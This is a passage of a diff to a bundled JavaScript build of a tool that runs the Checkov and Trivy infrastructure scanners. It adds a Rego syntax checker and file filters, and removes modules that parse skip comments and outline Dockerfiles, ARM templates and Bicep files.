 ;// CONCATENATED MODULE: ./build/js/tools/checkov/schema.js
 
@@ -58358,7 +59373,7 @@ const parse_record_named = new Set(['arm', 'bicep', 'cloudformation', 'kubernete
 /** One failed or skipped check. `undefined` when it is about a file that is not in the tree, and was not called from there. */
 function readRecord(found, framework, root, skipped) {
     const format = formatOf(framework);
-    const place = placeOf(found, format, root);
+    const place = parse_record_placeOf(found, format, root);
     if (place === undefined)
         return undefined;
     return {
@@ -58408,7 +59423,7 @@ const parse_record_reasonOf = (comment) => {
     return reason === '' || reason === 'No comment provided' ? {} : { reason };
 };
 /** In the file itself; what a module from outside the tree holds is placed at its innermost call in the tree. */
-function placeOf(found, format, root) {
+function parse_record_placeOf(found, format, root) {
     const path = pathOf(found, root);
     const all = format === 'terraform' ? callsOf(found, root) : [];
     const outside = path === undefined ? all.findIndex((call) => call !== undefined) : -1;
@@ -58630,6 +59645,7 @@ const checkov = {
     tool: 'checkov',
     reads: checkovFormats,
     listsByFile: [],
+    mayOpen: mayOpen,
     leavesOut: leavesOut,
     crashesOn: { formats: ['cloudformation'], reason: crashesCheckov },
     ownConfig: ['**/.checkov.{yaml,yml}', '**/.checkov.baseline'],
@@ -58705,12 +59721,59 @@ const packagesCanaries = [
     },
 ];
 
+;// CONCATENATED MODULE: ./build/js/tools/trivy/rego-mistakes.js
+
+/** Trivy leaves Rego's own tests alone, and hidden files. */
+const isLeft = (path) => /_test\.rego$|(?:^|\/)\.[^/]*$/.test(path);
+/**
+ * What Trivy 0.74.0 ends with, as far as the text alone makes it certain: it is not parsed, so that nothing sound is ever refused. A
+ * package outside of `user` is a library.
+ */
+function findRegoMistakes(path, text) {
+    if (!path.endsWith('.rego') || isLeft(path))
+        return [];
+    const garbled = findGarbled(text);
+    if (garbled !== undefined)
+        return [garbled];
+    const first = /^\uFEFF?(?:\s|#[^\n]*(?:\n|$))*/.exec(text)?.[0].length ?? 0;
+    if (!/^package\b/.test(text.slice(first, first + 9)))
+        return [{ ...placeAt(text, first), sentence: 'A Rego file begins with its `package`, and here is none.', hint: rego_mistakes_hint }];
+    // A template string holds code that holds strings.
+    return /\$["`]/.test(text) ? [] : findUnbalanced(text);
+}
+const rego_mistakes_hint = 'A check of Trivy is in a package whose name begins with `user.`.';
+const closing = { '(': ')', '[': ']', '{': '}' };
+/** Comments, strings, raw strings, a quote without its end, brackets. */
+const token = /#[^\n]*|"(?:[^"\\\n]|\\[^\n])*"|`[^`]*`|["`()[\]{}]/g;
+/** The first quote or bracket without its other half. */
+function findUnbalanced(text) {
+    const open = [];
+    const at = (index, sentence) => [{ ...placeAt(text, index), sentence }];
+    for (const { 0: mark, index } of text.matchAll(token)) {
+        if (mark === '"' || mark === '`')
+            return at(index, `The string that begins here has no end (${mark}).`);
+        if (mark in closing)
+            open.push({ mark, index });
+        else if (mark.length === 1 && ')]}'.includes(mark)) {
+            const last = open.pop();
+            if (last === undefined)
+                return at(index, `Nothing is open that this ${mark} could close.`);
+            if (closing[last.mark] !== mark)
+                return at(index, `This ${mark} does not close the ${last.mark} of line ${placeAt(text, last.index).line}.`);
+        }
+    }
+    const left = open.at(-1);
+    return left === undefined ? [] : at(left.index, `This ${left.mark} is never closed.`);
+}
+
 ;// CONCATENATED MODULE: ./build/js/tools/trivy/checks.js
+
 /** Rego in the package `user`; what is in another one is a library to Trivy, never a check. */
 const trivyChecks = {
     isCheck: (path, text) => path.endsWith('.rego') && /^package[ \t]+user\b/m.test(text),
     isProgram: () => false, // Rego has no way out but the network, and there is none.
     beside: () => [],
+    mistakes: findRegoMistakes,
     complaints: [],
 };
 
@@ -58775,6 +59838,8 @@ const allowedPlaces = [
 ];
 /** Too short to hold a secret, in bytes. */
 const left_out_shortest = 10;
+/** Pictures, documents and archives tell no rule anything; of every other file Terraform's functions may ask for the text. */
+const left_out_mayOpen = (path) => !skippedEndings.test(path);
 /** Files that Trivy 0.74.0 does not search for secrets, by its built-in rules; seen by running it over one file of each kind. */
 const leavesOutOfSecrets = (path, size) => size < left_out_shortest ||
     skippedNames.has(path.slice(path.lastIndexOf('/') + 1)) ||
@@ -58884,6 +59949,10 @@ const isTrivyCheck = (id) => names.has(id);
  * name several; empty for a word that Trivy does not know. Read from Trivy 0.74.0's own metadata, see docs/knowledge.md.
  */
 const trivyChecksNamed = (alias) => byAlias.get(alias) ?? [];
+/** What Trivy also calls a check, in words. */
+const wordsOfTrivyCheck = (id) => names.get(id) ?? [];
+/** Every misconfiguration check of this release of Trivy. */
+const trivyCheckIds = [...names.keys()];
 
 ;// CONCATENATED MODULE: ./build/js/tools/trivy/rule-id.js
 
@@ -59194,11 +60263,11 @@ const listOf = (item) => array(item)
     .nullish()
     .transform((list) => list ?? []);
 const trivy_schema_text = schemas_string().optional();
-const schema_line = schemas_number().int().optional();
+const line = schemas_number().int().optional();
 const occurrence = object({
     Resource: trivy_schema_text,
     Filename: trivy_schema_text,
-    Location: object({ StartLine: schema_line, EndLine: schema_line }).optional(),
+    Location: object({ StartLine: line, EndLine: line }).optional(),
 });
 const misconfiguration = object({
     ID: schemas_string(),
@@ -59212,8 +60281,8 @@ const misconfiguration = object({
         Resource: trivy_schema_text,
         Provider: trivy_schema_text,
         Service: trivy_schema_text,
-        StartLine: schema_line,
-        EndLine: schema_line,
+        StartLine: line,
+        EndLine: line,
         Occurrences: listOf(occurrence),
     })
         .optional(),
@@ -59223,8 +60292,8 @@ const secret = object({
     Category: trivy_schema_text,
     Severity: trivy_schema_text,
     Title: trivy_schema_text,
-    StartLine: schema_line,
-    EndLine: schema_line,
+    StartLine: line,
+    EndLine: line,
     Match: trivy_schema_text,
 });
 const identifier = object({ PURL: trivy_schema_text, UID: trivy_schema_text }).optional();
@@ -59257,7 +60326,7 @@ const schema_dependency = object({
     Identifier: identifier,
     Licenses: listOf(schemas_string()),
     Relationship: trivy_schema_text,
-    Locations: listOf(object({ StartLine: schema_line, EndLine: schema_line })),
+    Locations: listOf(object({ StartLine: line, EndLine: line })),
 });
 const result = object({
     Target: schemas_string(),
@@ -59465,6 +60534,7 @@ const trivyConfig = {
     tool: 'trivy',
     reads: ['arm', 'cloudformation', 'dockerfile', 'helm', 'kubernetes', 'secrets', 'terraform'],
     listsByFile: formatsByFile,
+    mayOpen: left_out_mayOpen,
     leavesOut: (format, path, size) => format === 'secrets' && leavesOutOfSecrets(path, size),
     ownConfig,
     checks: trivyChecks,
@@ -59483,6 +60553,7 @@ const trivyPackages = {
     tool: 'trivy',
     reads: ['lockfile'],
     listsByFile: ['lockfile'],
+    mayOpen: left_out_mayOpen,
     ownConfig,
     canaries: packagesCanaries,
     needsDatabase: true,
@@ -59494,6 +60565,8 @@ const trivyPackages = {
 };
 
 ;// CONCATENATED MODULE: ./build/js/tools/index.js
+
+
 
 
 
@@ -59514,11 +60587,25 @@ const canonicalRuleId = (text) => sortedUnique([
     ...(tools_advisory.test(text) ? [canonicalAdvisory(text)] : []),
 ]);
 const canonicalAdvisory = (text) => /^ghsa/i.test(text) ? `GHSA${text.slice(4).toLowerCase()}` : text.toUpperCase();
+/** A check in words may share its name with something else, so only numbered ids are certain. */
+function kindsOfRule(text) {
+    if (tools_advisory.test(text))
+        return ['vulnerability'];
+    if (isConcept(text))
+        return ['misconfiguration'];
+    const [check] = canonicalCheckovIds(text);
+    if (check !== undefined)
+        return [check.includes('_SECRET_') ? 'secret' : 'misconfiguration'];
+    return /\d$/.test(text) && canonicalTrivyIds(text).length === 1 ? ['misconfiguration'] : [];
+}
 /** What the reader of a policy has to know of the tools. */
 const policyNames = {
     tools: toolNames,
     checkTools: sortedUnique(tools_scanners.filter(({ checks }) => checks !== undefined).map(({ tool }) => tool)),
     formats: sortedUnique(tools_scanners.flatMap(({ reads }) => reads)),
+    concepts: sortedUnique(conceptIds),
+    groups: new Map(groups.map(({ id, concepts }) => [id, concepts])),
+    kindsOfRule,
     canonicalRules: canonicalRuleId,
 };
 
@@ -59536,2984 +60623,9 @@ function planDigest({ plan: { exclude, tools }, checks }) {
     return `sha256:${sha256Hex(JSON.stringify([sortedUnique(exclude), switches, ...checks.map(({ digest }) => digest)]))}`;
 }
 
-;// CONCATENATED MODULE: ./build/js/repository/skips.js
-const asUtf8 = (latin1) => Buffer.from(latin1, 'latin1').toString('utf8');
-/** Every match, also those that begin inside the words of another: `x:ignore:A x:ignore:B` is two comments. */
-function* matchesOf(text, rule) {
-    const pattern = new RegExp(rule.pattern.source, `${rule.pattern.flags.replace(/[gy]/g, '')}g`);
-    for (let match = pattern.exec(text); match !== null; match = pattern.exec(text)) {
-        yield match;
-        pattern.lastIndex = match.index + 1;
-    }
-}
-const splitIds = (text) => text.split(/[\s,]+/).filter((id) => id !== '');
-/** A line of a generated file has no end worth reading. */
-const longestRest = 400;
-/** The comment and what follows it on its line. */
-function restOfLine(text, match) {
-    const end = match.index + match[0].length;
-    return match[0] + (/^[^\n]*/.exec(text.slice(end, end + longestRest))?.[0] ?? '');
-}
-/** True when the comment means nothing any more on this UTC day; a day that is none ended it long ago. */
-const isExpired = ({ expires }, today) => expires !== undefined && !(/^\d{4}-\d{2}-\d{2}$/.test(expires) && today < expires);
-/** Every comment of `text` (bytes read as Latin-1, so that offsets are bytes) that asks a tool to keep quiet. */
-function findSkips(text, rules) {
-    const found = [];
-    for (const rule of rules) {
-        let [line, counted] = [1, 0];
-        for (const match of matchesOf(text, rule)) {
-            for (let at = text.indexOf('\n', counted); at >= 0 && at < match.index; at = text.indexOf('\n', counted)) {
-                line += 1;
-                counted = at + 1;
-            }
-            const reason = asUtf8(match[2] ?? '').trim();
-            const ids = splitIds(match[1] ?? '').map((id) => rule.canonical(id));
-            const expires = rule.expires?.(restOfLine(text, match));
-            found.push({
-                line,
-                tool: rule.tool,
-                rules: ids,
-                ...(reason === '' ? {} : { reason }),
-                ...(expires === undefined ? {} : { expires }),
-            });
-        }
-    }
-    return found.sort((a, b) => a.line - b.line);
-}
-/** The same bytes with every such comment made meaningless to its tool: its first colon becomes `_`, so nothing moves. */
-function neutralise(text, rules) {
-    const colons = rules
-        .filter((rule) => rule.neutralise)
-        .flatMap((rule) => [...matchesOf(text, rule)].map((match) => text.indexOf(':', match.index)))
-        .sort((a, b) => a - b);
-    let [result, from] = ['', 0];
-    for (const colon of colons) {
-        if (colon < from)
-            continue;
-        result += `${text.slice(from, colon)}_`;
-        from = colon + 1;
-    }
-    return result + text.slice(from);
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/apply-skips.js
-
-
-/**
- * `neutralised`: tools that no longer see their comments; the others report by themselves what they skipped. `today` is a UTC day: what
- * has expired by then reaches nothing.
- */
-function createSkips(files, neutralised, today) {
-    const byPath = new Map(files.filter((file) => file.skips.length > 0).map((file) => [file.path, file.skips]));
-    const matched = new Set();
-    return {
-        skipFor(reported, tool, spans, lines) {
-            const named = (byPath.get(reported.path) ?? []).filter((comment) => comment.tool === tool && apply_skips_names(comment, reported.ruleId) && !isExpired(comment, today));
-            const fitting = neutralised.has(tool)
-                ? named.filter((comment) => reaches(comment, spans, lines))
-                : named.filter(() => reported.skip !== undefined);
-            for (const comment of fitting)
-                matched.add(comment);
-            const first = fitting[0];
-            if (first === undefined || reported.skip !== undefined)
-                return reported.skip;
-            return { by: 'inline', ...(first.reason === undefined ? {} : { reason: first.reason }) };
-        },
-        all: (mask) => [...byPath]
-            .flatMap(([path, comments]) => comments.map((comment) => ({ path, ...inWords(comment, today, mask), matched: matched.has(comment) })))
-            .sort((a, b) => compareAll(order_compareText(a.path, b.path), a.line - b.line, order_compareText(a.tool, b.tool))),
-    };
-}
-const inWords = (comment, today, mask) => {
-    const { line, tool, rules, reason, expires } = comment;
-    return {
-        line,
-        tool,
-        rules: rules.map(mask),
-        ...(reason === undefined ? {} : { reason: mask(reason) }),
-        ...(expires !== undefined && isExpired(comment, today) ? { expired: mask(expires) } : {}),
-    };
-};
-const apply_skips_names = (comment, ruleId) => comment.rules.some((rule) => rule === '*' || rule === ruleId);
-/** The comment stands right above one of the blocks around the finding, or inside the smallest. */
-function reaches(comment, spans, lines) {
-    const innermost = spans.at(-1);
-    if (innermost === undefined)
-        return false;
-    if (innermost.startLine <= comment.line && comment.line <= innermost.endLine)
-        return true;
-    const next = nextCodeLine(comment.line, lines);
-    return spans.some((span) => span.startLine === next);
-}
-const isCode = (line) => !/^\s*(?:#|\/\/|\/\*|\*|$)/.test(line);
-function nextCodeLine(line, lines) {
-    let next = line;
-    while (next < lines.length && !isCode(lines[next] ?? ''))
-        next += 1;
-    return next + 1;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/dockerfile/dockerfile-scanner.js
-const keywords = new Set('ADD ARG CMD COPY ENTRYPOINT ENV EXPOSE FROM HEALTHCHECK LABEL MAINTAINER ONBUILD RUN SHELL STOPSIGNAL USER VOLUME WORKDIR'.split(' '));
-/** Cuts a Dockerfile into instructions: continued lines, comments and blank lines between them, heredocs, the escape directive. */
-function readInstructions(lines) {
-    const escapeSign = escapeOf(lines);
-    const terminators = createTerminators(lines);
-    const instructions = [];
-    let isWhole = true;
-    for (let at = 0; at < lines.length;) {
-        const line = withoutBom(lines[at] ?? '', at);
-        if (isBlank(line) || isComment(line)) {
-            at += 1;
-            continue;
-        }
-        const { text, next } = logicalLine(lines, at, escapeSign);
-        const keyword = /^[ \t]*([A-Za-z]+)(?=[ \t]|$)/.exec(text)?.[1]?.toUpperCase() ?? '';
-        const end = endOfHeredocs(keyword, text, next, terminators);
-        if (keywords.has(keyword)) {
-            const rest = text.trimStart().slice(keyword.length).trim();
-            instructions.push({ keyword, text: rest, startLine: at + 1, endLine: end.next });
-        }
-        if (!keywords.has(keyword) || !end.isFound)
-            isWhole = false;
-        at = end.next;
-    }
-    return { instructions, isWhole };
-}
-const withoutBom = (line, at) => (at === 0 ? line.replace(/^\uFEFF/, '') : line);
-const isBlank = (line) => line.trim() === '';
-const isComment = (line) => /^[ \t]*#/.test(line);
-/** Parser directives stand at the top, one a line; any other comment ends them. */
-function escapeOf(lines) {
-    for (const [index, line] of lines.entries()) {
-        const [, name, value] = /^[ \t]*#[ \t]*([A-Za-z]+)[ \t]*=[ \t]*(\S+)[ \t]*$/.exec(withoutBom(line, index)) ?? [];
-        if (name === undefined)
-            break;
-        if (name.toLowerCase() === 'escape' && value === '`')
-            return '`';
-    }
-    return '\\';
-}
-function logicalLine(lines, from, escapeSign) {
-    const parts = [];
-    let [next, last] = [from, from];
-    for (let isOpen = true; isOpen && next < lines.length; next += 1) {
-        const line = withoutBom(lines[next] ?? '', next);
-        if (next > from && (isBlank(line) || isComment(line)))
-            continue;
-        last = next;
-        const trimmed = line.trimEnd();
-        isOpen = trimmed.endsWith(escapeSign);
-        parts.push(isOpen ? trimmed.slice(0, -1) : line);
-    }
-    return { text: parts.join(' '), next: last + 1 };
-}
-/** Only RUN, COPY and ADD take heredocs; one line may open several, one after the other. */
-function endOfHeredocs(keyword, text, next, terminators) {
-    if (keyword !== 'RUN' && keyword !== 'COPY' && keyword !== 'ADD')
-        return { next, isFound: true };
-    let end = next;
-    for (const match of text.matchAll(/(?:^|[\s;&|(])\d*<<(-?)(["']?)([A-Za-z_][A-Za-z0-9_.]*)\2(?![^\s;&|)])/g)) {
-        const line = terminators(match[3] ?? '', end, match[1] === '-');
-        if (line === undefined)
-            return { next: end, isFound: false };
-        end = line + 1;
-    }
-    return { next: end, isFound: true };
-}
-function createTerminators(lines) {
-    let ends;
-    const passed = new Map();
-    return (name, from, areTabsAllowed) => {
-        ends ??= terminatorLines(lines);
-        const key = areTabsAllowed ? `-${name}` : name;
-        const own = ends.get(key) ?? [];
-        let index = passed.get(key) ?? 0;
-        while ((own[index] ?? from) < from)
-            index += 1;
-        passed.set(key, index);
-        return own[index];
-    };
-}
-/** Lines of one word, by the word, and with a dash before it where tabs may stand before it. */
-function terminatorLines(lines) {
-    const ends = new Map();
-    for (const [index, line] of lines.entries()) {
-        const [, tabs, name] = /^(\t*)([A-Za-z_][A-Za-z0-9_.]*)$/.exec(line) ?? [];
-        if (name === undefined)
-            continue;
-        for (const key of tabs === '' ? [name, `-${name}`] : [`-${name}`]) {
-            const known = ends.get(key);
-            if (known === undefined)
-                ends.set(key, [index]);
-            else
-                known.push(index);
-        }
-    }
-    return ends;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/dockerfile/dockerfile.js
-
-
-const type = 'dockerfile';
-/** Dockerfiles: a stage is a subject (its name, else its number), its instructions are parts, FROM too. */
-const dockerfile_dockerfile = {
-    formats: ['dockerfile'],
-    outline(text) {
-        const lines = linesOf(text);
-        const { instructions, isWhole } = readInstructions(lines);
-        const first = instructions.findIndex(({ keyword }) => keyword === 'FROM');
-        const before = first < 0 ? instructions : instructions.slice(0, first);
-        const children = [
-            ...before.map((instruction) => dockerfile_partOf(instruction, '')),
-            ...stagesOf(instructions.slice(before.length)),
-        ];
-        // What a tool says of the whole file (no USER, no HEALTHCHECK) is about the file, also while it has one stage only.
-        const whole = { label: 'Dockerfile', startLine: 1, endLine: lines.length, children };
-        return { spans: children.length === 0 ? [] : [whole], lines: lines.length, parsed: isWhole && first >= 0 };
-    },
-};
-const dockerfile_partOf = ({ keyword, startLine, endLine }, address) => ({
-    label: keyword,
-    startLine,
-    endLine,
-    subject: { type, address, part: keyword },
-    children: [],
-});
-/** Cuts instructions that begin with a FROM into stages. */
-function stagesOf(instructions) {
-    const stages = [];
-    for (const instruction of instructions) {
-        if (instruction.keyword === 'FROM')
-            stages.push([instruction]);
-        else
-            stages.at(-1)?.push(instruction);
-    }
-    return stages.map((stage, index) => {
-        const name = /^\S.*\sAS\s+(\S+)\s*$/i.exec(stage[0]?.text ?? '')?.[1];
-        const address = name?.toLowerCase() ?? String(index);
-        return {
-            label: `stage ${address}`,
-            startLine: stage[0]?.startLine ?? 1,
-            endLine: stage.at(-1)?.endLine ?? 1,
-            subject: { type, address },
-            children: stage.map((instruction) => dockerfile_partOf(instruction, address)),
-        };
-    });
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/document-spans.js
-
-/** The span of a key and its value. */
-const spanOfEntry = (entry, label, subject, children) => ({
-    label,
-    startLine: entry.key.startLine,
-    endLine: Math.max(entry.key.endLine, entry.value.endLine),
-    ...(subject === undefined ? {} : { subject }),
-    children,
-});
-const spanOfNode = (node, label, subject, children) => ({
-    label,
-    startLine: node.startLine,
-    endLine: node.endLine,
-    ...(subject === undefined ? {} : { subject }),
-    children,
-});
-/** Maps in a map, and maps in its lists, as parts without a subject; named by their keys. */
-const nestedSpans = (node) => entriesOf(node).flatMap((entry) => entry.value.kind === 'map'
-    ? [spanOfEntry(entry, entry.key.text, undefined, nestedSpans(entry.value))]
-    : itemsOf(entry.value).flatMap((item) => item.kind === 'map' ? [spanOfNode(item, entry.key.text, undefined, nestedSpans(item))] : []));
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/templates/arm.js
-
-
-
-
-/** Azure Resource Manager templates: a resource is a subject `type/name`, also one inside another or in a nested deployment. */
-const arm = {
-    formats: ['arm'],
-    outline(text) {
-        const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => resourcesOf(document_tree_valueAt(root, 'resources'), undefined));
-        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
-    },
-};
-/** A list, or since language version 2.0 a map of symbolic names. */
-const resourcesOf = (resources, parent) => [
-    ...itemsOf(resources).flatMap((item) => resourceSpan(item, undefined, parent)),
-    ...entriesOf(resources).flatMap((entry) => resourceSpan(entry.value, entry, parent)),
-];
-function resourceSpan(resource, entry, parent) {
-    const own = textOf(document_tree_valueAt(resource, 'type'));
-    if (own === undefined)
-        return [];
-    const type = parent === undefined || own.includes('.') ? own : `${parent}/${own}`;
-    const name = textOf(document_tree_valueAt(resource, 'name')) ?? entry?.key.text ?? '';
-    const subject = { type, address: `${type}/${name}` };
-    const children = [
-        ...resourcesOf(document_tree_valueAt(resource, 'resources'), type),
-        ...resourcesOf(document_tree_valueAt(resource, 'properties', 'template', 'resources'), undefined),
-    ];
-    const inner = children.length > 0 ? children : nestedSpans(document_tree_valueAt(resource, 'properties'));
-    const label = `${type} ${name}`;
-    return [entry === undefined ? spanOfNode(resource, label, subject, inner) : spanOfEntry(entry, label, subject, inner)];
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/brace-scanner.js
-/**
- * Splits a text into tokens, one pass, linear. While recovering, nothing reaches over the end of its line that could have been
- * left open by mistake: strings end there, and a line that can only be at the top of a file says so.
- */
-function scanBraces(text, dialect, isRecovering) {
-    const cursor = {
-        text,
-        dialect,
-        isRecovering,
-        heredocEnd: lazyTerminators(text),
-        at: text.startsWith('\uFEFF') ? 1 : 0,
-        line: 1,
-        newline: newlineFrom(text, 0),
-        broken: false,
-        endlessComments: false,
-    };
-    let isLineStart = true;
-    return {
-        isBroken: () => cursor.broken,
-        next() {
-            if (isLineStart && isRecovering && atTop(cursor)) {
-                isLineStart = false;
-                return { type: 'top', line: cursor.line };
-            }
-            const token = nextToken(cursor);
-            isLineStart = token?.type === 'newline';
-            return token;
-        },
-    };
-}
-function atTop({ dialect: { top }, text, at }) {
-    top.lastIndex = at;
-    return top.test(text);
-}
-const brace_scanner_word = /[\p{L}_][\p{L}\p{N}_-]*/uy;
-const blanks = /[ \t\r]+/y;
-const marks = '{}[]()=';
-function nextToken(cursor) {
-    for (;;) {
-        const { text, at, line } = cursor;
-        const character = text[at];
-        if (character === undefined)
-            return undefined;
-        if (character === ' ' || character === '\t' || character === '\r')
-            cursor.at = brace_scanner_endOf(blanks, cursor);
-        else if (!brace_scanner_skipComment(cursor))
-            return tokenAt(cursor, character, line);
-    }
-}
-function tokenAt(cursor, character, line) {
-    if (character === '\n') {
-        moveTo(cursor, cursor.at + 1);
-        return { type: 'newline', line };
-    }
-    if (character === cursor.dialect.quote)
-        return { type: 'string', text: brace_scanner_readString(cursor), line };
-    if (skipHeredoc(cursor))
-        return { type: 'string', text: undefined, line };
-    const end = brace_scanner_endOf(brace_scanner_word, cursor);
-    if (end > cursor.at) {
-        const text = cursor.text.slice(cursor.at, end);
-        cursor.at = end;
-        return { type: 'word', text, line };
-    }
-    cursor.at += 1;
-    return marks.includes(character) ? { type: 'mark', text: character, line } : { type: 'other', line };
-}
-function brace_scanner_endOf(pattern, { text, at }) {
-    pattern.lastIndex = at;
-    return pattern.test(text) ? pattern.lastIndex : at;
-}
-/** Moves on, counting the lines passed; the next line break is remembered, so that a text without any is not searched each time. */
-function moveTo(cursor, end) {
-    while (cursor.newline < end) {
-        cursor.line += 1;
-        cursor.newline = newlineFrom(cursor.text, cursor.newline + 1);
-    }
-    cursor.at = end;
-}
-function newlineFrom(text, from) {
-    const found = text.indexOf('\n', from);
-    return found < 0 ? Number.POSITIVE_INFINITY : found;
-}
-function brace_scanner_skipComment(cursor) {
-    const { text, at, dialect } = cursor;
-    const isLine = text.startsWith('//', at) || (dialect.hashComments && text[at] === '#');
-    if (isLine) {
-        const end = text.indexOf('\n', at);
-        cursor.at = end < 0 ? text.length : end;
-        return true;
-    }
-    if (!text.startsWith('/*', at))
-        return false;
-    const end = cursor.endlessComments ? -1 : text.indexOf('*/', at + 2);
-    if (end >= 0)
-        moveTo(cursor, end + 2);
-    else {
-        cursor.broken = true;
-        cursor.endlessComments = true;
-        const endOfLine = text.indexOf('\n', at);
-        cursor.at = endOfLine < 0 ? text.length : endOfLine;
-    }
-    return true;
-}
-const heredoc = /<<-?([\p{L}_][\p{L}\p{N}_-]*)[ \t]*\r?\n/uy;
-/** A heredoc that never ends is none: the signs are taken one by one, and the rest of the file stays readable. */
-function skipHeredoc(cursor) {
-    if (!cursor.dialect.heredocs || !cursor.text.startsWith('<<', cursor.at))
-        return false;
-    heredoc.lastIndex = cursor.at;
-    const name = heredoc.exec(cursor.text)?.[1];
-    if (name === undefined)
-        return false;
-    const end = cursor.heredocEnd(name, heredoc.lastIndex);
-    if (end === undefined)
-        cursor.broken = true;
-    else
-        moveTo(cursor, end);
-    return end !== undefined;
-}
-/** Where a line that holds one word and nothing else ends, from an offset on; offsets asked for must rise. */
-function lazyTerminators(text) {
-    let ends;
-    const passed = new Map();
-    return (name, from) => {
-        ends ??= terminatorsOf(text);
-        const own = ends.get(name) ?? [];
-        let index = passed.get(name) ?? 0;
-        while ((own[index] ?? from) < from)
-            index += 1;
-        passed.set(name, index);
-        return own[index];
-    };
-}
-function terminatorsOf(text) {
-    const ends = new Map();
-    for (const match of text.matchAll(/^[ \t]*([\p{L}_][\p{L}\p{N}_-]*)[ \t]*\r?$/gmu)) {
-        const name = match[1] ?? '';
-        const end = match.index + match[0].length;
-        const known = ends.get(name);
-        if (known === undefined)
-            ends.set(name, [end]);
-        else
-            known.push(end);
-    }
-    return ends;
-}
-function brace_scanner_readString(cursor) {
-    const { text, at, dialect } = cursor;
-    const triple = dialect.quote.repeat(3);
-    if (dialect.tripleQuotes && text.startsWith(triple, at))
-        return readRaw(cursor, triple);
-    const { end, isLiteral, isClosed } = stringEnd(cursor);
-    if (!isClosed)
-        cursor.broken = true;
-    moveTo(cursor, end);
-    return isLiteral && isClosed ? text.slice(at + 1, end - 1) : undefined;
-}
-function readRaw(cursor, quotes) {
-    const { text, at } = cursor;
-    const end = text.indexOf(quotes, at + quotes.length);
-    if (end < 0)
-        cursor.broken = true;
-    moveTo(cursor, end < 0 ? text.length : end + quotes.length);
-    return end < 0 ? undefined : text.slice(at + quotes.length, end);
-}
-/** Follows strings in expressions in strings with a stack of what is open: `true` a string, `false` a brace. */
-function stringEnd({ text, at: start, dialect, isRecovering }) {
-    const open = [true];
-    let isLiteral = true;
-    let at = start + 1;
-    for (; at < text.length && open.length > 0; at += 1) {
-        const character = text[at];
-        const inString = open.at(-1) === true;
-        if (character === '\n' && (open.length === 1 || isRecovering))
-            return { end: at, isLiteral, isClosed: false };
-        if (character === dialect.quote) {
-            if (inString)
-                open.pop();
-            else
-                open.push(true);
-        }
-        else if (!inString) {
-            if (character === '{')
-                open.push(false);
-            else if (character === '}')
-                open.pop();
-        }
-        else if (character === '\\' && dialect.escapes)
-            at += text[at + 1] === '\n' ? 0 : 1;
-        else if (opensExpression(text, at, dialect)) {
-            isLiteral = false;
-            open.push(false);
-            at += 1;
-        }
-        else if (isEscapedOpening(text, at, dialect))
-            at += 2;
-    }
-    return { end: Math.min(at, text.length), isLiteral, isClosed: open.length === 0 };
-}
-const isOpening = (character, dialect) => character === '$' || (character === '%' && dialect.directives);
-const opensExpression = (text, at, dialect) => isOpening(text[at], dialect) && text[at + 1] === '{';
-/** `$${` and `%%{` are written to mean `${` and `%{` themselves. */
-const isEscapedOpening = (text, at, dialect) => dialect.directives && isOpening(text[at], dialect) && text[at + 1] === text[at] && text[at + 2] === '{';
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/templates/bicep.js
-
-
-const dialect = {
-    quote: "'",
-    hashComments: false,
-    heredocs: false,
-    tripleQuotes: true,
-    directives: false,
-    escapes: true,
-    top: /(?:resource|module|param|output|var|targetScope|metadata|type|func|import)\b[ \t]*[\w=]/y,
-};
-/** Bicep: resources, modules and parameters are subjects, named by their symbols; a resource inside another is `outer::inner`. */
-const bicep = {
-    formats: ['bicep'],
-    outline(text) {
-        const strict = readDeclarations(text, false);
-        const { spans } = strict.isWhole ? strict : readDeclarations(text, true);
-        return { spans, lines: linesOf(text).length, parsed: strict.isWhole };
-    },
-};
-/** Declarations deeper than this belong to the one above them. */
-const deepest = 50;
-function readDeclarations(text, isRecovering) {
-    const scanner = scanBraces(text, dialect, isRecovering);
-    const reader = { spans: [], open: [], head: [], depth: 0, line: 1, isWhole: true };
-    for (let token = scanner.next(); token !== undefined; token = scanner.next())
-        step(reader, token);
-    if (reader.depth > 0 || scanner.isBroken())
-        reader.isWhole = false;
-    closeDown(reader, 0, reader.line);
-    return reader;
-}
-function step(reader, token) {
-    if (token.type === 'top') {
-        if (reader.depth > 0)
-            reader.isWhole = false;
-        reader.depth = 0;
-        closeDown(reader, 0, token.line - 1);
-        return;
-    }
-    if (token.type === 'newline') {
-        closeDown(reader, reader.depth, reader.line);
-        reader.head = [];
-        return;
-    }
-    reader.line = token.line;
-    if (token.type === 'mark')
-        stepMark(reader, token.text);
-    else if (reader.head.length < 3)
-        declare(reader, token);
-}
-function stepMark(reader, mark) {
-    if ('{[('.includes(mark)) {
-        reader.depth += 1;
-        reader.head = [];
-    }
-    else if ('}])'.includes(mark)) {
-        if (reader.depth === 0)
-            reader.isWhole = false;
-        else
-            reader.depth -= 1;
-    }
-    else
-        reader.head.push({ type: 'other', line: reader.line }, { type: 'other', line: reader.line }, { type: 'other', line: reader.line });
-}
-function declare(reader, token) {
-    reader.head.push(token);
-    const [keyword, symbol, third] = reader.head;
-    if (keyword?.type !== 'word' || symbol?.type !== 'word')
-        return;
-    const declared = declarationOf(keyword.text, symbol.text, third, reader);
-    if (declared === undefined || reader.open.length >= deepest)
-        return;
-    const label = `${keyword.text} ${symbol.text}`;
-    reader.open.push({ label, subject: declared, startLine: keyword.line, depth: reader.depth, children: [] });
-}
-function declarationOf(keyword, symbol, third, reader) {
-    if (keyword === 'param' && third === undefined)
-        return { type: 'param', address: `param.${symbol}` };
-    if (third?.type !== 'string' || (keyword !== 'resource' && keyword !== 'module'))
-        return undefined;
-    if (keyword === 'module')
-        return { type: 'module', address: `module.${symbol}` };
-    const parent = reader.open.at(-1)?.subject;
-    const own = (third.text ?? '').replace(/@[^@]*$/, '');
-    const type = parent === undefined || own.includes('.') ? own : `${parent.type}/${own}`;
-    return { type, address: parent === undefined ? symbol : `${parent.address}::${symbol}` };
-}
-/** Ends every declaration that began at this depth or deeper. */
-function closeDown(reader, depth, endLine) {
